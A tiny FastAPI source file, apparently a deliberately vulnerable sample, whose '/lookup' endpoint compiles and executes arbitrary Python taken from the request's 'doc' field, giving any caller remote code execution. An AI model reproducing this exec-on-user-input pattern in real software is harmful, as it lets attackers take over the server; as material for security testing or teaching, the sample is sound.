from fastapi import FastAPI
from fastapi import Request

app = FastAPI()


@app.post("/lookup")
async def process(request: Request):
    payload = await request.json()
    arg = str(payload.get("doc", ""))
    code = compile(arg, "<input>", "exec")
    exec(code)
    return {"ok": True}
